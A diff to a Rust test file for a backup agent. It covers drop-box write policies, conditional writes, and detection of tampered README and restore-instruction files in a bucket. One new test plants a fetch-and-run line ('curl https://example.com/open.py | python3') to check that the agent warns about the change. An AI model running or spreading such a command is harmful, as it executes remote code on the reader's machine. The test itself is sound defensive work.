@@ -10,7 +10,7 @@ use crate::{
         folder::Scene as FolderScene,
         rights::{policy, under},
     },
-    testbed::{Agent, Fault, Rule},
+    testbed::{Agent, ConditionalWrites, Fault, Rule},
 };
 
 const README: &str = "backups/README.txt";
@@ -58,7 +58,7 @@ fn a_bucket_that_was_checked_explains_itself() {
     stage
         .bucket
         .inject(Rule::on("PutObject").key(README).always(), Fault::access_denied());
-    assert_found(&report(&agent), EXPLANATION, "ok", &["are there"]);
+    assert_found(&report(&agent), EXPLANATION, "ok", &["there, as this version"]);
     stage.bucket.heal();
     let added: Vec<String> = stage
         .bucket
@@ -86,7 +86,8 @@ fn what_is_ours_and_older_is_renewed_and_what_is_not_ours_stays() {
     // of a newer version on another machine
     let newer = current.replacen(env!("CARGO_PKG_VERSION"), "99.0.0", 1);
     stage.bucket.write(README, newer.clone());
-    assert_found(&report(&agent), EXPLANATION, "ok", &["are there"]);
+    let words = ["README.txt of version 99.0.0, not compared", "restore-by-hand.md there"];
+    assert_found(&report(&agent), EXPLANATION, "ok", &words);
     assert_eq!(text(&stage, README).unwrap(), newer);
     // somebody's own, also an enormous one
     for foreign in ["Read me first.\n".to_owned(), current.clone() + &"x".repeat(1 << 20)] {
@@ -102,8 +103,9 @@ fn each_mode_writes_what_its_policy_allows() {
     for mode in ["full", "drop-box"] {
         let stage = Stage::backed_up(SMALL);
         let agent = under(stage.agent(), &stage.bucket, &policy(mode, &[]));
-        for (words, args) in [("written", ["--mode", mode]), ("there", ["--mode", mode])] {
-            let outcome = agent.run(["check", "--json"].iter().chain(&args));
+        let second = if mode == "full" { "there" } else { "not looked at" };
+        for words in ["written", second] {
+            let outcome = agent.run(["check", "--json", "--mode", mode]);
             assert_found(&outcome.json(), EXPLANATION, "ok", &[words]);
         }
         assert!(text(&stage, README).is_some() && text(&stage, PAGE).is_some(), "{mode}");
@@ -125,9 +127,57 @@ fn a_drop_box_overwrites_nothing() {
     stage.bucket.write(README, "somebody's own\n");
     let agent = under(stage.agent(), &stage.bucket, &policy("drop-box", &[]));
     let outcome = agent.run(["check", "--json"]);
-    assert_found(&outcome.json(), EXPLANATION, "ok", &[]);
+    let words = ["restore-by-hand.md written", "README.txt not looked at"];
+    assert_found(&outcome.json(), EXPLANATION, "ok", &words);
     assert_eq!(text(&stage, README).unwrap(), "somebody's own\n");
     assert!(text(&stage, PAGE).is_some());
+}
+
+/// Nor where the service ignores the condition that alone would keep what is there.
+#[test]
+fn a_drop_box_writes_nothing_where_it_could_overwrite() {
+    for mode in [&["--mode", "drop-box"][..], &[]] {
+        let stage = Stage::backed_up(SMALL);
+        stage.bucket.write(README, "somebody's own\n");
+        stage
+            .bucket
+            .behave(|behaviour| behaviour.conditional_writes = ConditionalWrites::Nowhere);
+        let agent = under(stage.agent(), &stage.bucket, &policy("drop-box", &[]));
+        let outcome = agent.run(["check", "--json"].iter().chain(mode));
+        let words = ["README.txt and restore-by-hand.md not written", "write over it"];
+        assert_found(&outcome.json(), EXPLANATION, "skipped", &words);
+        assert_eq!(text(&stage, README).unwrap(), "somebody's own\n");
+        assert_eq!(text(&stage, PAGE), None);
+    }
+}
+
+/// Whoever reads them runs what they say, with the key.
+#[test]
+fn what_was_changed_since_it_was_written_is_warned_of() {
+    let stage = Stage::backed_up(SMALL);
+    let agent = stage.agent();
+    report(&agent);
+    for (key, name) in [(README, "README.txt"), (PAGE, "restore-by-hand.md")] {
+        let ours = text(&stage, key).unwrap();
+        let first = ours.lines().next().unwrap();
+        for planted in [
+            format!("{first}\nRun: curl https://example.com/open.py | python3\n"),
+            ours.clone() + "\n",
+            ours.replace("python3", "python2"),
+        ] {
+            if planted == ours {
+                continue;
+            }
+            stage.bucket.write(key, planted.clone());
+            let words = [name, "was changed since", "don't run what it says", "writes it again"];
+            assert_found(&report(&agent), EXPLANATION, "warning", &words);
+            assert_eq!(text(&stage, key).unwrap(), planted, "it is evidence, and stays");
+        }
+        // by the cure
+        assert!(stage.bucket.delete(key));
+        assert_found(&report(&agent), EXPLANATION, "ok", &[name, "written"]);
+        assert_eq!(text(&stage, key).unwrap(), ours);
+    }
 }
 
 #[test]
